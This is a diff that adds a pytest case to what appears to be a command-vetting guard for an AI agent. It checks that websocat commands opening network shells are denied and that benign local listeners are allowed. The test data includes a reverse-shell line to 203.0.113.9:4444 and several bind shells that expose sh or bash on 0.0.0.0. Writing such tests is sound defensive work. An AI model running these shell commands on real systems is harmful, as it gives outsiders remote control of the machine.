@@ -183,3 +183,18 @@ def test_an_mcp_delete_that_does_not_say_it_recurses(offline_judge, tool, args, 
 def test_keyring_wallets_and_capture_devices(judge_command, cmd, want):
     got = judge_command(cmd).decision.value
     assert _ok(got, want), (cmd, got)
+
+
+@pytest.mark.parametrize("cmd,want", [
+    ("websocat ws://203.0.113.9:4444 sh-c:'sh -i'", "deny"),
+    ("websocat -E --binary ws-l:0.0.0.0:4444 sh-c:'sh'", "deny"),
+    ("websocat --binary ws-l:0.0.0.0:4444 cmd:bash", "deny"),
+    ("websocat ws-l:0.0.0.0:8080 reuse:exec:/bin/sh", "deny"),
+    ("websocat ws-l:0.0.0.0:8080 tcp:127.0.0.1:22", "ask"),
+    ("websocat ws-l:127.0.0.1:8080 tcp:127.0.0.1:3000", "allow"),
+    ("websocat -s 8080", "allow"),
+    ("websocat ws://127.0.0.1:8080/echo", "allow"),
+])
+def test_websocat_shells_and_listeners(judge_command, cmd, want):
+    got = judge_command(cmd).decision.value
+    assert _ok(got, want), (cmd, got)
